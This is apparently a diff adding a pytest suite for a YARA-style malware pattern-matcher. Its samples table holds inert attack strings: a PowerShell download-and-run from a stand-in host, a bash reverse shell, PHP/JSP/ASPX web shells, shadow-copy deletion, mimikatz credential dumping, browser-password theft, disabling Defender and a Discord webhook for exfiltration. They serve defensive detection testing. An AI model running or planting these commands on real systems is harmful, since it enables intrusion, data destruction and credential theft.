@@ -1,0 +1,230 @@
+"""The built pattern-matcher: each rule of ours on a sample for it and on benign files; and all as yara does it."""
+
+from __future__ import annotations
+
+import base64
+import struct
+import sys
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import golden
+import msgspec
+import pytest
+from executables import CODE, READ, Pe, PeSection, import_table, noise, pie
+from harness import REPOSITORY, Guest, Refused
+
+Guests = Callable[[str], Guest]
+STDIN_ONLY = {"wasi:cli/stdin@0.2.12", "wasi:io/error@0.2.12", "wasi:io/streams@0.2.12"}
+RULES = REPOSITORY / "wasm" / "modules" / "pattern-matcher" / "rules"
+BENIGN = 1_000
+MIB = 1 << 20
+
+
+@pytest.fixture
+def module(guest: Guests) -> Guest:
+    return guest("pattern-matcher")
+
+
+def matched(module: Guest, sample: bytes, function: str = "analyze", **args: Any) -> dict[str, Any]:
+    """What matches, by rule."""
+    data = msgspec.json.decode(module.call(function, sample, **args).data)
+    return {found["rule"]: found for found in data["matches"]}
+
+
+def program(*libraries: tuple[str, list[str]], sections: tuple[bytes, ...] = (), data: bytes = b"") -> bytes:
+    """A PE image with those imports, sections and bytes."""
+    image = Pe()
+    image.sections = [PeSection(b".text", CODE, b"\xc3" * 16), *(PeSection(name, CODE, b"\xc3") for name in sections)]
+    image.sections.append(PeSection(b".data", READ, data or b"\0"))
+    rva = image.rva(len(image.sections))
+    content, size = import_table(rva, wide=False, libraries=dict(libraries))
+    image.sections.append(PeSection(b".idata", READ, content))
+    image.directories[1] = (rva, size)
+    return image.build()
+
+
+def text(*lines: str) -> bytes:
+    return "\n".join(lines).encode()
+
+
+STUB = b"MZ".ljust(0x4E, b"\0") + b"This program cannot be run in DOS mode."
+SAMPLES: dict[str, bytes] = {
+    "eicar_test_file": golden.sample("eicar"),
+    "packer_upx": program(sections=(b"UPX0", b"UPX1")),
+    "packer_by_section_names": program(sections=(b".vmp0",)),
+    "injection_into_other_processes": program(
+        ("KERNEL32.dll", ["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"])
+    ),
+    "process_hollowing": program(
+        ("ntdll.dll", ["NtUnmapViewOfSection"]), ("kernel32.dll", ["SetThreadContext", "WriteProcessMemory"])
+    ),
+    "keyboard_hook": program(("user32.dll", ["SetWindowsHookExA", "GetAsyncKeyState"])),
+    "virtual_machine_checks": program(
+        data=b"VBoxTray.exe\0vmtoolsd.exe\0SbieDll.dll\0" + "procmon.exe".encode("utf-16le")
+    ),
+    "api_lookup_by_hash": noise(64) + bytes.fromhex("31d2648b52308b520c8b5214 c1cf0d01c7"),
+    "program_behind_another_file": b"%PDF-1.4\n" + noise(256) + STUB,
+    "iot_bot": pie() + b"/bin/busybox\0wget http\0tftp -g\0chmod 777\0/proc/net/tcp\0",
+    "powershell_encoded_command": b"start powershell.exe -nop -enc " + base64.b64encode(noise(60)),
+    "powershell_download_and_run": text("IEX (New-Object Net.WebClient).DownloadString('http://e.example/a')"),
+    "powershell_in_memory_loader": text(
+        "$b = [Convert]::FromBase64String($t)", "[System.Reflection.Assembly]::Load($b)"
+    ),
+    "script_host_dropper": text(
+        'var h = new ActiveXObject("MSXML2.XMLHTTP");', 'var s = new ActiveXObject("ADODB.Stream");',
+        "s.SaveToFile(p, 2);", 'new ActiveXObject("WScript.Shell").Run(p);',
+    ),
+    "script_packed_by_eval": text("eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|'),0,{}))"),
+    "webshell_php": text("<?php @eval($_POST['c']); ?>"),
+    "webshell_jsp": text('<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
+    "webshell_aspx": text('<%@ Page Language="Jscript"%><%eval(Request.Item["c"],"unsafe");%>'),
+    "reverse_shell_one_liner": text("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
+    "shadow_copies_deleted": text("vssadmin.exe Delete Shadows /All /Quiet"),
+    "base64_of_a_program": base64.b64encode(
+        b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8" + bytes(0x3D) + STUB[0x4E:] + noise(99)
+    ),
+    "macro_that_starts_by_itself_and_runs_programs": text(
+        "Sub AutoOpen()", 'CreateObject("WScript.Shell").Run "calc"', "End Sub"
+    ),
+    "rtf_equation_object": text(r"{\rtf1{\object{\*\objdata 4571756174696F6E2E3300}}}"),
+    "rtf_object_updates_itself": text(r"{\rtf1{\object\objupdate{\*\objdata 0105}}}"),
+    "pdf_runs_something": text("%PDF-1.4", "<< /S /Launch /Win << /F (cmd.exe) >> >>"),
+    "pdf_script_when_opened": text("%PDF-1.4", "/OpenAction << /S /JavaScript /JS (eval(unescape('%41'))) >>"),
+    "template_from_the_network": text(
+        '<Relationship Type="x/relationships/attachedTemplate" Target="http://e.example/t.dotm" TargetMode="External"/>'
+    ),
+    "shortcut_runs_a_shell": struct.pack("<II", 0x4C, 0x21401) + "powershell -w hidden".encode("utf-16le"),
+    "ransom_note": text("All your files are encrypted!", "Pay in Bitcoin to get the decryption key."),
+    "miner_of_coins": text('{"url": "stratum+tcp://pool.example.org:3333", "algo": "rx/0"}', "--donate-level=1"),
+    "thief_of_browser_passwords": text("SELECT origin_url, username_value, password_value FROM logins"),
+    "dumper_of_credentials": text("privilege::debug", "sekurlsa::logonpasswords"),
+    "run_key_is_written": text(r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d b"),
+    "defender_is_turned_off": text("Set-MpPreference -DisableRealtimeMonitoring $true"),
+    "stealer_sends_to_a_chat": text(f"https://discord.com/api/webhooks/123456789012345678/{'a' * 68}"),
+}  # fmt: skip
+"""A sample for each rule: inert, made here."""
+
+
+def test_it_describes_itself_and_imports_stdin_alone(module: Guest) -> None:
+    description = module.describe()
+    assert (description.name, description.slot) == ("pattern-matcher", "patterns")
+    assert [function.name for function in description.functions] == ["analyze", "scan", "compile", "check"]
+    assert all(function.args["additionalProperties"] is False for function in description.functions)
+    assert set(module.component.type.imports(module.engine)) == STDIN_ONLY
+
+
+def test_each_rule_of_ours_has_a_sample_and_says_what_it_means(module: Guest) -> None:
+    sources = [{"text": file.read_text(), "namespace": file.stem} for file in sorted(RULES.glob("*.yar"))]
+    listed = msgspec.json.decode(module.call("compile", sources=sources).data)["listed"]
+    assert {rule["name"] for rule in listed} == set(SAMPLES)
+    for rule in listed:
+        metadata = dict(rule["metadata"])
+        assert metadata["severity"] in {"info", "low", "medium", "high", "critical"}, rule["name"]
+        assert 50 <= metadata["confidence"] <= 100
+        assert metadata["description"][0].isupper()
+        assert not metadata["description"].endswith(".")
+
+
+@pytest.mark.parametrize("rule", SAMPLES)
+def test_a_rule_of_ours_finds_what_it_is_for(module: Guest, rule: str) -> None:
+    output = module.call("analyze", SAMPLES[rule])
+    found = {match["rule"] for match in msgspec.json.decode(output.data)["matches"]}
+    assert rule in found
+    (finding,) = [finding for finding in output.findings if finding.id == f"rule-{rule.replace('_', '-')}"]
+    assert finding.title != "A YARA rule matches"
+    if rule != "eicar_test_file":
+        assert finding.techniques
+
+
+def benign_files() -> Iterator[Path]:
+    """Programs, libraries, scripts and data that this machine has: the most of them came with its packages."""
+    site = Path(sys.prefix) / "lib" / f"python3.{sys.version_info.minor}" / "site-packages"
+    folders = (
+        (site, "*.exe", 60), (site, "*.dll", 60), (site, "*.so", 200), (site, "*.py", 500), (site, "*.js", 150),
+        (REPOSITORY / "labextension" / "node_modules", "*.js", 300), (Path("/usr/bin"), "*", 300),
+    )  # fmt: skip
+    for folder, pattern, most in folders:
+        found = sorted(folder.rglob(pattern))
+        yield from found[:: max(1, len(found) // most)]
+
+
+def test_no_benign_file_is_called_suspicious(module: Guest) -> None:
+    """Of a thousand files none may meet a rule of medium severity or above."""
+    alarms: dict[str, list[str]] = {}
+    seen = 0
+    for file in benign_files():
+        if seen == BENIGN:
+            break
+        if not file.is_file() or not 0 < file.stat().st_size < 4 * MIB:
+            continue
+        seen += 1
+        for finding in module.call("analyze", file.read_bytes()).findings:
+            if finding.severity not in {"info", "low"}:
+                alarms.setdefault(str(file), []).append(finding.id)
+    assert seen == BENIGN
+    assert alarms == {}
+
+
+FOREIGN = r"""
+import "pe"
+import "math"
+import "hash"
+rule words { strings: $a = "import" nocase $b = "GetProcAddress" wide ascii fullword condition: any of them }
+rule hex { strings: $a = { 4d 5a [0-80] (50 45 | 00 ??) } condition: $a }
+rule expression { strings: $a = /https?:\/\/[a-z0-9.\/-]{4,60}/ $b = /[A-Z]{3}_[a-z]+/ condition: #a > 1 or #b > 2 }
+rule xored { strings: $a = "This program" xor(1-255) condition: $a }
+rule encoded { strings: $a = "This program cannot" base64 base64wide condition: $a }
+rule sections { condition: pe.is_pe and for any s in pe.sections : (s.raw_data_size > 0 and s.name == ".text") }
+rule imports { condition: pe.imports("kernel32.dll", "ExitProcess") or pe.number_of_imports > 3 }
+rule imphash { condition: pe.is_pe and pe.imphash() != "" }
+rule entropy { condition: math.entropy(0, filesize) > 6.0 }
+rule digest { condition: hash.sha256(0, filesize) matches /^[0-7]/ }
+rule numbers { condition: uint16(0) == 0x5a4d and uint32be(uint32(0x3c)) == 0x50450000 }
+rule counted { strings: $a = "\x00\x00\x00\x00" condition: #a > 10 and @a[2] > 4 and !a[1] == 4 }
+global rule small { condition: filesize < 8MB }
+private rule hidden { condition: filesize > 1 }
+rule depends { condition: hidden and not xored }
+"""
+
+
+def test_it_matches_what_yara_matches(module: Guest) -> None:
+    yara = pytest.importorskip("yara")
+    theirs = yara.compile(source=FOREIGN)
+    folder = Path(golden.__file__).resolve().parents[2] / "wasm" / "modules" / "file-processor" / "tests" / "golden"
+    samples = [golden.sample(file.name.removesuffix(".b64")) for file in sorted(folder.glob("*.b64"))]
+    samples += [*SAMPLES.values(), Path(sys.executable).resolve().read_bytes()[: 2 * MIB]]
+    compared = 0
+    for sample in samples:
+        ours = matched(module, sample, "scan", sources=[{"text": FOREIGN}])
+        expected = {match.rule: match for match in theirs.match(data=sample)}
+        assert set(ours) == set(expected)
+        for name, match in expected.items():
+            for string in match.strings:
+                places = [(found.offset, found.matched_length) for found in string.instances]
+                (mine,) = [it for it in ours[name]["strings"] if it["id"] == string.identifier]
+                got = [(place["offset"], place["length"]) for place in mine["places"]]
+                assert got == places[: len(got)], (name, string.identifier)
+                assert mine["count"] == min(len(places), 1_000)
+                compared += len(got)
+    assert compared > 500
+
+
+def test_a_set_is_compiled_once_and_handed_in(module: Guest) -> None:
+    call = msgspec.json.encode({"function": "compile", "args": {"sources": [{"text": "rule r { condition: true }"}]}})
+    answer = msgspec.json.decode(module.analyze_raw(call.decode()))
+    assert answer["data"]["size"] == len(base64.b64decode(answer["state"])) - 25 - 32
+    scan = {"function": "analyze", "args": {}, "sample": {"size": 1}, "state": answer["state"]}
+    facts = msgspec.json.decode(module.analyze_raw(msgspec.json.encode(scan).decode(), b"x"))["data"]
+    assert [found["rule"] for found in facts["matches"]] == ["r"]
+    assert (facts["set"], facts["sha256"]) == ("given", answer["data"]["sha256"])
+
+
+def test_what_is_wrong_with_rules_is_told_with_its_place(module: Guest) -> None:
+    sources = [{"text": "rule a {\n  condition: oops\n}", "name": "mine.yar"}]
+    with pytest.raises(Refused) as refused:
+        module.call("compile", sources=sources)
+    assert refused.value.args[0].message.startswith("Rules: mine.yar, line 2, column 14: ")
+    (problem,) = msgspec.json.decode(module.call("check", sources=sources).data)["problems"]
+    assert (problem["line"], problem["column"], problem["level"]) == (2, 14, "error")
